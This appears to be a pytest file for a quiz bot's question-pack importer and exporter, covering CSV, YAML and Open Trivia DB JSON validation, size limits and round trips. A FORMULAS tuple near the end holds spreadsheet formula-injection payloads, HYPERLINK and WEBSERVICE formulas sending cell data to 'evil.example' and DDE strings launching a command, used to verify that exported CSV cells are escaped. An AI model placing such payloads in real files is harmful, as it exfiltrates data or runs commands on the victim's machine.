"""Question files for team packs: bank YAML, CSV and Open Trivia DB JSON read through the
bank's validator; every bad entry named with where it is and the fix; whole files
refused with one line; export writes what import reads."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import yaml

from bot.domain import Locale, Question
from bot.errors import UserFacingError
from questions.tabular import CSV_COLUMNS, kebab
from questions.team import TeamQuestions, export_csv, export_yaml

READER = TeamQuestions()
HEADER = ",".join(CSV_COLUMNS)
ROW = "Which node runs job 7?,gpu-a,gpu-b,gpu-c,,,B,It is pinned to gpu-b.,our-cluster,2,en,"


def read_csv(*rows: str, header: str = HEADER) -> tuple[list[str], list[str]]:
    read = READER.read("q.csv", "\n".join([header, *rows]).encode())
    return [q.id for q in read.questions], list(read.problems)


def otdb(*results: dict[str, object], code: int = 0) -> bytes:
    return json.dumps({"response_code": code, "results": list(results)}).encode()


TRIVIA = {
    "category": "Science: Computers",
    "type": "multiple",
    "difficulty": "medium",
    "question": "What does &quot;RAM&quot; stand for? It&#039;s memory.",
    "correct_answer": "Random Access Memory",
    "incorrect_answers": ["Read Access Memory", "Run &amp; Access Memory", "Rapid Array Memory"],
}


def test_a_csv_row_becomes_a_one_locale_team_question() -> None:
    read = READER.read("q.csv", f"{HEADER}\n{ROW}\n".encode())
    (q,) = read.questions
    assert q.id.startswith("team-") and q.locales == (Locale.EN,) and q.answer == 1
    assert q.text(Locale.EL).choices == ("gpu-a", "gpu-b", "gpu-c")  # its only locale
    assert READER.read("other.csv", f"{HEADER}\n{ROW}\n".encode()).questions == (q,)


@pytest.mark.parametrize(
    ("row", "words"),
    [
        (ROW.replace(",B,", ",F,"), "line 3: answer: 'F' is not a choice letter; use A–C"),
        (ROW.replace(",en,", ",fr,"), "line 3: locale: 'fr' is not supported; use en or el"),
        (
            ROW.replace("Which node", "W" * 300 + " node"),
            "line 3: en.prompt: 317 characters, the limit is 300",
        ),
        (ROW.replace(",2,en", ",9,en"), "line 3: difficulty: '9' is not 1, 2 or 3"),
        (ROW.replace("gpu-b,gpu-c,,", "gpu-b,,gpu-d,"), "line 3: c: empty before a filled choice"),
        (ROW.replace("our-cluster", "Our Cluster"), "line 3: topic: 'Our Cluster' is not kebab"),
        (ROW + ",extra", "line 3: 13 fields, the header has 12"),
        (ROW.replace(",,,B,", ",,,A,").replace("gpu-b", "gpu-a"), "every choice must differ"),
    ],
)
def test_every_bad_csv_row_is_named_with_its_line_and_fix_and_the_rest_imported(
    row: str, words: str
) -> None:
    ids, problems = read_csv(ROW.replace("job 7", "job 8"), row)
    assert len(ids) == 1
    (problem,) = problems
    assert words in problem, problem


def test_rows_are_numbered_by_the_line_they_start_on_even_with_quoted_newlines() -> None:
    multi = '"Which node,\nafter the move?",a,b,,,,Z,x,t,1,en,'
    ids, problems = read_csv(ROW, multi, ROW.replace(",B,", ",Q,"))
    assert len(ids) == 1
    assert [p.split(":")[0] for p in problems] == ["line 3", "line 5"]


@pytest.mark.parametrize(
    ("header", "words"),
    [
        (HEADER.replace(",explanation", ""), "has no 'explanation' column"),
        (HEADER + ",colour", "unknown or repeated column 'colour'"),
        ("", "the file is empty"),
    ],
)
def test_a_csv_header_that_is_not_the_format_refuses_the_file(header: str, words: str) -> None:
    with pytest.raises(UserFacingError, match=words) as refused:
        READER.read("q.csv", (header + ("\n" + ROW if header else "")).encode())
    assert HEADER in str(refused.value) or "empty" in words


def test_open_trivia_db_entities_are_decoded_and_choices_shuffled_the_same_way_each_time() -> None:
    boolean = {
        **TRIVIA,
        "type": "boolean",
        "question": "GPUs have HBM&#039;s?",
        "correct_answer": "False",
        "incorrect_answers": ["True"],
    }
    read = READER.read("trivia.json", otdb(TRIVIA, boolean))
    assert read.problems == ()
    multiple, true_false = read.questions
    text = multiple.text(Locale.EN)
    assert text.prompt == 'What does "RAM" stand for? It\'s memory.'
    assert "Run & Access Memory" in text.choices
    assert text.choices[multiple.answer] == "Random Access Memory"
    assert multiple.topic == "science-computers" and multiple.difficulty == 2
    assert true_false.text(Locale.EN).choices == ("True", "False") and true_false.answer == 1
    assert READER.read("again.json", otdb(TRIVIA, boolean)).questions == read.questions
    orders = {
        READER.read("t.json", otdb({**TRIVIA, "question": f"Q{i}?"})).questions[0].answer
        for i in range(12)
    }
    assert len(orders) > 1  # shuffled: the right answer is not always first


@pytest.mark.parametrize("code", [1, 2, 5])
def test_an_open_trivia_db_error_code_refuses_the_file(code: int) -> None:
    with pytest.raises(UserFacingError, match=f"response_code is {code}") as refused:
        READER.read("trivia.json", otdb(TRIVIA, code=code))
    assert "nothing was imported" in str(refused.value)


def test_a_bad_open_trivia_db_result_is_named_by_its_index() -> None:
    bad = {**TRIVIA, "difficulty": "extreme"}
    read = READER.read("trivia.json", otdb(TRIVIA, bad, {"type": "multiple"}))
    assert len(read.questions) == 1
    assert read.problems[0].startswith("results[1]: difficulty: 'extreme'")
    assert read.problems[1].startswith("results[2]: difficulty: required field is missing")


def test_yaml_with_unknown_keys_is_refused_with_the_validators_words(tmp_path: Path) -> None:
    data = {
        "id": "our-job",
        "topic": "our-cluster",
        "difficulty": 1,
        "answer": 0,
        "colour": "red",
        "en": {"prompt": "P?", "choices": ["a", "b"], "explanation": "E."},
    }
    read = READER.read("our-job.yaml", yaml.safe_dump(data).encode())
    assert read.questions == ()
    (problem,) = read.problems
    assert "our-job.yaml (id our-job): colour: unknown key; remove it" in problem
    del data["colour"]
    (q,) = READER.read("our-job.yaml", yaml.safe_dump(data).encode()).questions
    assert q.id.startswith("team-") and q.references == ()  # one locale, no link: a team question


def test_a_50_mb_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    big = tmp_path / "huge.csv"
    with big.open("wb") as f:
        f.truncate(50 * 1024 * 1024)
    ((_name, read),) = list(READER.read_path(big))
    assert read.questions == () and read.entries == 0
    assert "huge.csv is 52.4 MB, over the 8 MiB limit for CSV files" in read.problems[0]
    with pytest.raises(UserFacingError, match="over the 2 MiB limit for Open Trivia DB JSON files"):
        READER.read("huge.json", b" " * (3 * 1024 * 1024))


def test_not_utf8_and_not_a_question_file_are_refused_with_the_fix() -> None:
    with pytest.raises(UserFacingError, match="save the file as UTF-8"):
        READER.read("q.csv", b"\xff\xfe" + HEADER.encode("utf-16-le"))
    with pytest.raises(UserFacingError, match="send bank YAML"):
        READER.read("q.xlsx", b"PK")
    assert READER.accepts("Q.CSV") and not READER.accepts("snapshot.pickle")


def test_export_writes_what_import_reads_back(tmp_path: Path) -> None:
    trivia = READER.read("t.json", otdb(TRIVIA)).questions
    rows = READER.read("q.csv", f"{HEADER}\n{ROW}\n{ROW.replace(',en,', ',el,')}".encode())
    both = [*trivia, *rows.questions]
    written = export_yaml(both, tmp_path / "yaml")
    back = [q for p in written for q in READER.read(p.name, p.read_bytes()).questions]
    assert back == both
    text, notes = export_csv(both)
    assert notes == []
    assert READER.read("q.csv", text.encode()).questions == tuple(both)
    assert next(iter(csv.reader(io.StringIO(text)))) == list(CSV_COLUMNS)


def test_kebab_topics_from_categories() -> None:
    assert kebab("Entertainment: Japanese Anime & Manga") == "entertainment-japanese-anime-manga"
    assert len(kebab("x" * 30 + " " + "y" * 30)) <= 40
    assert kebab("Ελληνικά") == "trivia"


FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/"&B2)',
    "-2+3+cmd|' /C calc'!A0",
)


def submitted(prompt: str, choices: list[str], explanation: str) -> Question:
    """A question as a member's `/quiz submit` stores it (the same checker as a file)."""
    data = {
        "id": "q",
        "topic": "t",
        "difficulty": 1,
        "answer": 0,
        "en": {"prompt": prompt, "choices": choices, "explanation": explanation},
    }
    (q,) = READER.read("q.yaml", yaml.safe_dump(data).encode()).questions
    return q


def test_exported_csv_cells_never_start_a_formula_and_read_back_whole() -> None:
    questions = [
        submitted(FORMULAS[0], [FORMULAS[1], FORMULAS[2], "-1"], FORMULAS[3]),
        submitted("'=' assigns; what does '==' do?", ["compares", "-0.5", FORMULAS[4]], "@x"),
        submitted("\tTabbed?", ["\rcarriage", "\uff1dfull-width"], "''+quoted twice"),
    ]
    text, _ = export_csv(questions)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULAS[1] in cells and "'-1" in cells
    assert "''=' assigns; what does '==' do?" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d")]
    back = READER.read("questions.csv", text.encode()).questions
    assert back == tuple(questions)
    assert back[0].text(Locale.EN).choices[2] == "-1"  # a legitimate negative number
    assert back[1].text(Locale.EN).prompt == "'=' assigns; what does '==' do?"


def test_a_cell_quoted_against_formulas_imports_without_the_quote() -> None:
    guarded = ROW.replace("gpu-a", "'-1").replace("Which node", "'=Which node")
    (q,) = READER.read("q.csv", f"{HEADER}\n{guarded}\n".encode()).questions
    assert q.text(Locale.EN).choices[0] == "-1"
    assert q.text(Locale.EN).prompt.startswith("=Which node")
    kept = ROW.replace("gpu-a", "'quoted'")  # a quote before ordinary text is text
    (q,) = READER.read("q.csv", f"{HEADER}\n{kept}\n".encode()).questions
    assert q.text(Locale.EN).choices[0] == "'quoted'"
